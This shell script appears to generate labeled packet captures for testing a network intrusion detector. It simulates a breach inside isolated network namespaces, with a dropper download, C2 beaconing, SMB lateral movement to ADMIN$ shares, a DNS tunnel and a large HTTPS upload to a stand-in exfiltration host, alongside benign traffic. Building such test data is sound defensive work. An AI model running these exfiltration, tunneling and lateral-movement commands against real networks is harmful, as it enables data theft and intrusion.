#!/bin/sh
# realtraffic.sh -- the real-traffic variant of the Crestline scenario: real
# clients and servers (curl, python's http.server and ssl, openssl s_server,
# samba's smbd and smbclient, dnsmasq, dig) in network namespaces this script
# creates and always removes, captured with tcpdump on the lab's bridge.
#
#   scenarios/realtraffic.sh OUTDIR [--seed N] [--scale F] [--exfil-mb N]
#
# Writes OUTDIR/breach.pcap (dropper download over HTTP, HTTPS beaconing with
# jitter, SMB fan-out to 20 internal hosts, a large HTTPS upload to a foreign
# address, a DNS tunnel through the internal resolver), OUTDIR/benign.pcap
# (browsing six sites, DNS lookups, a 20 MB download, a 3 MB upload, file-share
# gets and a put) and OUTDIR/truth.json (see scenarios/README.md).
# The beacons run every 2 s in the lab so a run takes about half a minute;
# both captures are then stretched in time by --scale (default 30, so the
# beacons are 60 s apart) with tests/tools/pcap_timescale.py: the bytes are
# the ones the kernel carried, only time is dilated.  Needs root, `ip netns`
# and the tools above (scripts/install-deps.sh); exits 77 naming what is
# missing otherwise.
set -u
SRC=$(cd "$(dirname "$0")/.." && pwd)
NETNS="$SRC/tests/tools/netns"
usage() { echo "usage: realtraffic.sh OUTDIR [--seed N] [--scale F] [--exfil-mb N]" >&2; exit 2; }
[ $# -ge 1 ] || usage
OUT=$1; shift
SEED=1124; SCALE=30; EXFIL_MB=128
while [ $# -gt 0 ]; do
  case $1 in
    --seed) SEED=${2:?}; shift 2 ;;
    --scale) SCALE=${2:?}; shift 2 ;;
    --exfil-mb) EXFIL_MB=${2:?}; shift 2 ;;
    *) usage ;;
  esac
done
case "$SEED$EXFIL_MB" in *[!0-9]*) usage ;; esac
awk -v f="$SCALE" 'BEGIN { exit !(f + 0 == f && f > 0 && f <= 1000) }' || usage

# ---- can this machine run the lab? ----------------------------------------
cant() { echo "realtraffic: $*" >&2; exit 77; }
[ "$(id -u)" = 0 ] || cant "needs root (network namespaces)"
for c in ip tcpdump curl openssl python3 smbd smbclient dnsmasq dig; do
  command -v "$c" >/dev/null 2>&1 || cant "needs $c (scripts/install-deps.sh installs it)"
done
LAB=${REALTRAFFIC_LAB:-tl$$}   # namespace name prefix: unique per run
ip netns add "${LAB}probe" 2>/dev/null || cant "cannot create a network namespace (ip netns add)"
ip netns del "${LAB}probe"

# the interpreter itself, not a version manager's shim (which costs ~0.3 s a start)
PY=$(python3 -c 'import sys; print(sys.executable)') || cant "python3 does not run"
LAB_PY=$PY
mkdir -p "$OUT" || exit 1
OUT=$(cd "$OUT" && pwd)
W=$(mktemp -d /tmp/tells-lab.XXXXXX)
. "$NETNS/lab.sh"
TCPD=""
cleanup() {
  trap '' PIPE INT TERM HUP       # finish tearing down even if the reader went away
  [ -n "$TCPD" ] && kill "$TCPD" 2>/dev/null
  lab_down
  [ -n "${KEEP:-}" ] || rm -rf "$W"
}
trap cleanup EXIT
trap 'exit 1' INT TERM HUP PIPE
die() { echo "realtraffic: $*" >&2; for f in "$W"/*.log; do [ -s "$f" ] && sed "s|^|  $(basename "$f"): |" "$f" | tail -5 >&2; done; exit 1; }
now() { date +%s.%N; }
T_BEGIN=$(now)
note() { [ -z "${REALTRAFFIC_VERBOSE:-}" ] || awk -v a="$T_BEGIN" -v b="$(now)" -v m="$*" 'BEGIN { printf "realtraffic: %5.1f s %s\n", b - a, m }' >&2; }

# ---- addresses --------------------------------------------------------------
PZ=10.66.0.5            # patient zero
WS=10.66.0.7            # an ordinary user (benign capture)
RES=10.66.0.53          # the internal DNS resolver
FSB=10.66.2.10          # the file server the ordinary user works with
DROP=3.0.130.44         # dropper site (SG)
C2=1.46.130.17          # C2 (TH)
EXF=2.38.77.164         # exfiltration drop (IT)
NSX=179.58.110.46       # the tunnel's authoritative name server (BO)
# ordinary sites (name=address; odd ones over HTTP, even ones over HTTPS)
SITES="news.example.com=151.101.1.69 www.example.org=185.15.59.224 shop.example.net=88.198.1.1
  code.example.com=140.82.112.3 wiki.example.org=91.198.174.192 mail.example.net=13.107.42.14"
DROP_HOST=docs.crestline-hr.example; C2_HOST=update.igfxcdn.example
EXF_HOST=sync.cloud-archive.example; TUN_DOM=msupdate-dns.example
UA_IE="Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko"
UA_FF="Mozilla/5.0 (Windows NT 6.1; rv:33.0) Gecko/20100101 Firefox/33.0"
TARGETS=""; i=1
while [ $i -le 20 ]; do TARGETS="$TARGETS 10.66.1.$i"; i=$((i + 1)); done

# ---- content ----------------------------------------------------------------
mkdir -p "$W/drop" "$W/sink" "$W/site" "$W/smb/share" "$W/smb/admin"
if ! { command -v x86_64-w64-mingw32-gcc >/dev/null 2>&1 &&
       x86_64-w64-mingw32-gcc -O2 -s -o "$W/drop/igfxtray-setup.exe" "$SRC/demo/dropper.c" -ladvapi32 2>/dev/null; }; then
  # without mingw: a minimal PE image (MZ header, PE signature, one empty section)
  "$PY" -c 'import struct,sys
mz=bytearray(b"MZ"+b"\0"*58+struct.pack("<I",64))
pe=b"PE\0\0"+struct.pack("<HHIIIHH",0x8664,1,0x545E2F00,0,0,240,0x22)
sys.stdout.buffer.write(bytes(mz)+pe+b"\0"*(4096-len(mz)-len(pe)))' > "$W/drop/igfxtray-setup.exe"
fi
for p in index.html world.html sport.html; do
  "$PY" -c 'import sys,random
r=random.Random(sys.argv[1]); w="studio film release review budget premiere cast crew box office".split()
print("<html><head><title>%s</title></head><body>"%sys.argv[1])
for i in range(300): print("<p>"+" ".join(r.choice(w) for _ in range(12))+"</p>")
print("</body></html>")' "$p" > "$W/site/$p"
done
head -c 20000000 /dev/urandom > "$W/site/update-x64.msu"   # an ordinary 20 MB download
head -c 3000000 /dev/urandom > "$W/photo.jpg"                # an ordinary 3 MB upload
for f in schedule.xlsx budget-q4.xlsx callsheet.docx; do head -c 300000 /dev/urandom > "$W/smb/share/$f"; done
head -c $((EXFIL_MB * 1048576)) /dev/urandom > "$W/archive.7z" || die "cannot write the upload payload"
for n in c2 exf web; do
  case $n in c2) cn=$C2_HOST ;; exf) cn=$EXF_HOST ;; web) cn=www.example.org ;; esac
  openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 30 \
    -subj "/CN=$cn" -keyout "$W/$n.key" -out "$W/$n.crt" 2>"$W/openssl.log" || die "openssl req failed"
done
cat > "$W/smb.conf" <<EOF
[global]
  workgroup = CRESTLINE
  server role = standalone server
  map to guest = Bad User
  guest account = root
  server min protocol = SMB2
  smb ports = 445
  disable netbios = yes
  load printers = no
  printing = bsd
  printcap name = /dev/null
  disable spoolss = yes
  private dir = $W/smb/private
  lock directory = $W/smb/lock
  state directory = $W/smb/state
  cache directory = $W/smb/cache
  pid directory = $W/smb/pid
  ncalrpc dir = $W/smb/ncalrpc
  log file = $W/smb/log
  passdb backend = tdbsam:$W/smb/private/passdb.tdb
[ADMIN\$]
  path = $W/smb/admin
  guest ok = yes
  read only = no
  force user = root
[share]
  path = $W/smb/share
  guest ok = yes
  read only = no
  force user = root
EOF
mkdir -p "$W/smb/private" "$W/smb/lock" "$W/smb/state" "$W/smb/cache" "$W/smb/pid" "$W/smb/ncalrpc"

# the DNS tunnel: a 4.5 KB "file" sent as 150 base32 chunks in TXT queries
"$PY" -c 'import base64,random,sys
r=random.Random(int(sys.argv[1])); data=bytes(r.getrandbits(8) for _ in range(30*150))
for i in range(150):
    c=base64.b32encode(data[i*30:(i+1)*30]).decode().rstrip("=").lower()
    print("%s.%04x.%s TXT" % (c, i, sys.argv[2]))' "$SEED" "$TUN_DOM" > "$W/tunnel.batch"

note "content ready"
# ---- the lab ------------------------------------------------------------------
lab_up || die "cannot build the lab bridge"
lab_host pz $PZ && lab_host ws $WS && lab_host dns $RES && lab_host fs $TARGETS $FSB &&
  lab_host ext $DROP $C2 $EXF $NSX && lab_host web $(for s in $SITES; do echo "${s#*=}"; done) ||
  die "cannot create the lab hosts"
lab_bg ext "$W/web-drop.log" "$PY" "$NETNS/srv.py" web $DROP 80 "$W/drop"
lab_bg ext "$W/c2.log" openssl s_server -quiet -www -accept $C2:443 -cert "$W/c2.crt" -key "$W/c2.key"
lab_bg ext "$W/sink.log" "$PY" "$NETNS/srv.py" web $EXF 443 "$W/sink" "$W/exf.crt" "$W/exf.key"
lab_bg ext "$W/ns.log" "$PY" "$NETNS/srv.py" dns $NSX 53 $TUN_DOM
lab_bg web "$W/web80.log" "$PY" "$NETNS/srv.py" web 0.0.0.0 80 "$W/site"
lab_bg web "$W/web443.log" "$PY" "$NETNS/srv.py" web 0.0.0.0 443 "$W/site" "$W/web.crt" "$W/web.key"
lab_bg fs "$W/smbd.log" smbd --foreground --no-process-group --debug-stdout -s "$W/smb.conf"
lab_bg dns "$W/dnsmasq.log" dnsmasq -k --conf-file=/dev/null --no-resolv --no-hosts \
  --listen-address=$RES --bind-interfaces --user=root --pid-file="$W/dnsmasq.pid" \
  --address=/$DROP_HOST/$DROP --address=/$C2_HOST/$C2 --address=/$EXF_HOST/$EXF \
  $(for s in $SITES; do echo "--address=/${s%=*}/${s#*=}"; done) \
  --host-record=fs01.crestline.corp,$FSB --host-record=dc01.crestline.corp,$RES \
  --server=/$TUN_DOM/$NSX
for hp in $DROP:80 $C2:443 $EXF:443 151.101.1.69:80 151.101.1.69:443 10.66.1.1:445; do
  lab_wait "server $hp" lab_port pz "${hp%:*}" "${hp#*:}" || die "server $hp did not start"
  note "server $hp answers"
done
note "servers started"
dnsok() { lab_x ws dig +time=1 +tries=1 "@$1" "$2" "$3" | grep -q 'status: NOERROR'; }
lab_wait "dnsmasq" dnsok $RES $DROP_HOST A || die "dnsmasq did not start"
lab_wait "tunnel name server" dnsok $NSX "probe.$TUN_DOM" TXT || die "the name server did not start"

# capture(NAME): tcpdump on the bridge (promiscuous: it sees every forwarded frame)
capture() {
  ip netns exec "${LAB}sw" tcpdump -i br0 -n -s 0 -B 32768 -Z root -w "$W/$1.raw.pcap" \
    > "$W/tcpdump-$1.log" 2>&1 &
  TCPD=$!
  lab_wait "tcpdump" grep -q 'listening on' "$W/tcpdump-$1.log" || die "tcpdump did not start"
  echo "$1 $(now)" >> "$W/origins.txt"     # lab time that maps to the capture's start time
}
endcapture() {
  sleep 1
  kill -TERM "$TCPD"; wait "$TCPD"; TCPD=""
  d=$(sed -n 's/^\([0-9]*\) packets\{0,1\} dropped by kernel.*/\1/p' "$W/tcpdump-$1.log")
  [ "${d:-x}" = 0 ] || die "tcpdump ($1) dropped packets or did not report: $(tr '\n' ' ' < "$W/tcpdump-$1.log")"
}
stage() { echo "$1 $2 $3" >> "$W/stages.txt"; }   # NAME FIRST LAST (epoch seconds)

# ---- the breach ---------------------------------------------------------------
: > "$W/stages.txt"; : > "$W/origins.txt"
note "servers answer"
capture breach
T0=$(now)
lab_x pz dig +short "@$RES" $DROP_HOST A > /dev/null
lab_x pz curl -sf -A "$UA_IE" --resolve $DROP_HOST:80:$DROP -o "$W/got.exe" \
  http://$DROP_HOST/igfxtray-setup.exe || die "dropper download failed"
cmp -s "$W/got.exe" "$W/drop/igfxtray-setup.exe" || die "dropper download differs"
stage download "$T0" "$(now)"

# the implant checks in every 2 s (+-15 %), 10 times, in the background
lab_x pz dig +short "@$RES" $C2_HOST A > /dev/null
lab_x pz "$PY" "$NETNS/beacon.py" 10 2 0.15 "$SEED" curl -sk -A "$UA_IE" \
  --resolve $C2_HOST:443:$C2 https://$C2_HOST/ > "$W/beacons.txt" 2> "$W/beacon.log" &
BEACON=$!

note "download done, beacons started"
T=$(now)
for t in $TARGETS; do
  lab_x pz smbclient "//$t/ADMIN\$" -N -m SMB3 -c 'put "'"$W/got.exe"'" igfxtrayex.exe; ls' \
    > "$W/smbclient.log" 2>&1 || die "smbclient to $t failed: $(tail -2 "$W/smbclient.log")"
done
stage lateral "$T" "$(now)"

T=$(now)
lab_x pz dig "@$RES" +tries=2 +time=2 +noall +answer -f "$W/tunnel.batch" > "$W/tunnel.out" 2>&1
[ "$(grep -c TXT "$W/tunnel.out")" -ge 140 ] || die "the DNS tunnel got too few answers"
stage dns_tunnel "$T" "$(now)"

T=$(now)
lab_x pz curl -sfk -A "$UA_IE" --limit-rate 64M --resolve $EXF_HOST:443:$EXF \
  -T "$W/archive.7z" https://$EXF_HOST/upload/archive.7z > "$W/upload.out" || die "the upload failed"
grep -q "\"stored\":$((EXFIL_MB * 1048576))" "$W/upload.out" || die "the upload was not stored whole"
rm -f "$W/archive.7z"
stage exfil "$T" "$(now)"

note "lateral movement, tunnel and upload done"
wait $BEACON || die "a beacon failed: $(cat "$W/beacon.log")"
stage beacon "$(head -1 "$W/beacons.txt")" "$(tail -1 "$W/beacons.txt")"
endcapture breach

note "breach captured"
# ---- ordinary use ---------------------------------------------------------------
capture benign
T=$(now)
for n in fs01.crestline.corp dc01.crestline.corp; do lab_x ws dig +short "@$RES" "$n" A > /dev/null; done
i=0
for s in $SITES; do      # look each site up, then fetch two or three pages
  i=$((i + 1)); n=${s%=*}; a=${s#*=}
  if [ $((i % 2)) = 1 ]; then u=http://$n; p=80; else u=https://$n; p=443; fi
  lab_x ws dig +short "@$RES" "$n" A > /dev/null
  lab_x ws curl -sfk -A "$UA_FF" --resolve "$n:$p:$a" -o /dev/null -o /dev/null \
    "$u/index.html" "$u/world.html" || die "browsing $u failed"
  [ $i = 3 ] && { lab_x ws smbclient //$FSB/share -N -m SMB3 \
    -c 'get schedule.xlsx /dev/null; get budget-q4.xlsx /dev/null; ls' > "$W/smbclient.log" 2>&1 ||
    die "file share get failed: $(tail -2 "$W/smbclient.log")"; }
  [ $i = 4 ] && { lab_x ws curl -sfk -A "$UA_FF" --resolve "$n:$p:$a" -o /dev/null \
    "$u/update-x64.msu" || die "the download failed"; }
  [ $i = 5 ] && { lab_x ws curl -sf -A "$UA_FF" --resolve "$n:$p:$a" -o /dev/null \
    -F "file=@$W/photo.jpg" "$u/upload" || die "the photo upload failed"; }
  lab_x ws curl -sfk -A "$UA_FF" --resolve "$n:$p:$a" -o /dev/null "$u/sport.html" || die "browsing $u failed"
done
lab_x ws smbclient //$FSB/share -N -m SMB3 -c "get callsheet.docx /dev/null; put $W/photo.jpg still-042.jpg" \
  > "$W/smbclient.log" 2>&1 || die "file share use failed: $(tail -2 "$W/smbclient.log")"
stage benign "$T" "$(now)"
endcapture benign

note "benign captured"
# ---- stretch time, write the truth ------------------------------------------------
START=1416787200   # 2014-11-24 00:00 UTC, the day the screens went red (benign: 2 h later)
BSTART=$((START + 7200))
for c in breach:$START benign:$BSTART; do
  "$PY" "$SRC/tests/tools/pcap_timescale.py" "$W/${c%:*}.raw.pcap" "$OUT/${c%:*}.pcap" "$SCALE" \
    --start "${c#*:}" --origin "$(sed -n "s/^${c%:*} //p" "$W/origins.txt")" 2>>"$W/timescale.log" ||
    die "pcap_timescale failed"
  rm -f "$W/${c%:*}.raw.pcap"
done
"$PY" - "$W" "$OUT" "$SCALE" "$START" "$BSTART" "$SEED" "$EXFIL_MB" <<EOF || die "cannot write truth.json"
import hashlib, json, sys
w, out, scale, start, bstart, seed, mb = sys.argv[1:8]
scale, start, bstart = float(scale), int(start), int(bstart)
org = dict(l.split() for l in open(w + "/origins.txt"))
def st(t, cap="breach", base=start):           # lab time -> capture time
    return round(base + (float(t) - float(org[cap])) * scale, 3)
stages = {}
for l in open(w + "/stages.txt"):
    n, a, b = l.split()
    stages[n] = (a, b)
beacons = [float(x) for x in open(w + "/beacons.txt")]
pe = open(w + "/drop/igfxtray-setup.exe", "rb").read()
targets = ["10.66.1.%d" % i for i in range(1, 21)]
S = lambda n: {"first": st(stages[n][0]), "last": st(stages[n][1])}
truth = {
  "scenario": {"variant": "realtraffic", "seed": int(seed), "time_scale": scale,
               "note": "real packets from real clients and servers in network namespaces; "
                       "timestamps dilated by time_scale from the capture's first packet"},
  "captures": {"breach": "breach.pcap", "benign": "benign.pcap"},
  "hosts": {"patient_zero": "$PZ", "user": "$WS", "resolver": "$RES", "file_server": "$FSB",
            "lateral_targets": targets},
  "stages": [
    dict(stage="initial-access", technique="T1105", src="$PZ", dst="$DROP", host="$DROP_HOST",
         url="/igfxtray-setup.exe", bytes=len(pe), sha256=hashlib.sha256(pe).hexdigest(),
         detect={"event_type": "http"}, **S("download")),
    dict(stage="command-and-control", technique="T1573", rule="net.beacon", src="$PZ", dst="$C2",
         sni="$C2_HOST", connections=len(beacons),
         period_s=round((beacons[-1] - beacons[0]) / (len(beacons) - 1) * scale, 2),
         jitter=0.15, **S("beacon")),
    dict(stage="lateral-movement", technique="T1021.002", rule="net.lateral", src="$PZ",
         hosts=len(targets), **S("lateral")),
    dict(stage="exfiltration", technique="T1048", rule="net.exfil", src="$PZ", dst="$EXF",
         sni="$EXF_HOST", bytes=int(mb) * 1048576, **S("exfil")),
    dict(stage="dns-tunnel", technique="T1071.004", rule="net.dns_tunnel", src="$PZ",
         domain="$TUN_DOM", queries=150, **S("dns_tunnel")),
  ],
  "benign": {"capture": "benign.pcap", "findings": 0,
             "first": st(stages["benign"][0], "benign", bstart),
             "last": st(stages["benign"][1], "benign", bstart)},
}
json.dump(truth, open(out + "/truth.json", "w"), indent=1)
EOF
echo "realtraffic: wrote $OUT/breach.pcap, $OUT/benign.pcap, $OUT/truth.json"
